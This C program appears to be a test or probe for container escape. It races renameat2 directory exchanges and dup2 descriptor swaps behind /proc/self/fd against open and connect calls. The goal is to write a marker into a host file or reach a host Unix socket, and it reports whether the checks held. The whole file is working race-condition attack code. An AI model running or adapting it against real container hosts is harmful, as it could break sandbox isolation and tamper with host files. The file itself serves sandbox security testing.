/* Tries to get hold of what is outside of a contained command: one thread turns a name or a descriptor into another while the server acts on it.
 * turned DIR SOCKET: DIR/f is a regular file of the host's, SOCKET one that somebody listens at. What it opens it writes to. */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <pthread.h>
#include <stdio.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/un.h>
#include <unistd.h>

enum { TRIES = 6000, TURNED = 100 };
static volatile int done;
static int ours, theirs;

static void *exchange(void *names) {
  char **name = names;
  while (!done)
    syscall(SYS_renameat2, AT_FDCWD, name[0], AT_FDCWD, name[1], 2);
  return 0;
}

static void *turn(void *unused) {
  while (!done) {
    dup2(theirs, TURNED);
    dup2(ours, TURNED);
  }
  return unused;
}

/* What is the layer's own may be changed: the host's file shows whether it was that one. */
static void change(int fd) {
  if (fd >= 0 && write(fd, "changed", 7) < 0 && errno != EAGAIN)
    perror("write");
  close(fd);
}

static void open_often(const char *name, int flags) {
  for (int n = 0; n < TRIES; n++)
    change(open(name, O_WRONLY | flags));
}

static pthread_t start(void *(*what)(void *), void *with) {
  pthread_t thread;
  done = 0;
  pthread_create(&thread, 0, what, with);
  return thread;
}

static void stop(pthread_t thread) {
  done = 1;
  pthread_join(thread, 0);
}

int main(int argc, char **argv) {
  if (argc != 3)
    return 2;
  char path[300];
  snprintf(path, sizeof path, "%s/f", argv[1]);
  mkdir("d", 0700);
  if (mknod("d/f", S_IFIFO | 0600, 0) || symlink(argv[1], "l") || symlink(argv[2], "t"))
    return perror("made"), 1;
  int kept = open("d/f", O_RDWR | O_NONBLOCK);
  pthread_t thread = start(exchange, (char *[]){"d", "l"});
  open_often("d/f", 0);
  stop(thread);
  close(kept);

  int ends[2];
  if (pipe2(ends, O_NONBLOCK))
    return 1;
  ours = ends[1], theirs = open(path, O_RDONLY);
  dup2(theirs, TURNED);
  int fd = open("/proc/self/fd/100", O_WRONLY | O_NOFOLLOW);
  printf("a link is %s\n", fd < 0 && errno == ELOOP ? "refused" : "opened");
  change(fd);
  dup2(ours, TURNED);
  thread = start(turn, 0);
  open_often("/proc/self/fd/100", 0);
  open_often("/proc/self/fd/100", O_NONBLOCK);
  stop(thread);

  struct sockaddr_un address = {AF_UNIX, "s"};
  int listener = socket(AF_UNIX, SOCK_STREAM | SOCK_NONBLOCK, 0), strange = 0;
  if (bind(listener, (void *)&address, sizeof address) || listen(listener, 100))
    return perror("bind"), 1;
  thread = start(exchange, (char *[]){"s", "t"});
  for (int n = 0; n < TRIES && !strange; n++) {
    int socket_ = socket(AF_UNIX, SOCK_STREAM, 0);
    if (connect(socket_, (void *)&address, sizeof address) == 0) {
      int peer = accept(listener, 0, 0);
      strange += peer < 0;
      close(peer);
    }
    close(socket_);
  }
  stop(thread);
  printf("%d\n", strange);
  return 0;
}
